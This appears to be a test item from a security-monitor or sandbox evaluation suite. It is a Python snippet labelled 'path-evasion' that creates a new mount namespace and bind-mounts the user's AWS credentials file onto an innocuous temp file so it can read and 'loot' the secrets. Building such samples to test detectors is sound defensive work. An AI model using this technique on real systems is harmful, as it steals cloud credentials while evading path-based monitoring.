#: {"class": "path-evasion", "loader": "script", "include": ["raw"], "expect": [["open", "credentials$|w\\.bin$"]], "effect": {"loot": "aws"}}
def mount(a, b, t, fl, d=None):
    assert _c.mount(a.encode(), b.encode(), t.encode() if t else None, fl, d.encode() if d else None) == 0, ctypes.get_errno()

_c.unshare(0x20000); open(TMP + "/w.bin", "w").close(); mount(HOME + "/.aws/credentials", TMP + "/w.bin", "", 4096)
LOOT(open(TMP + "/w.bin").read())
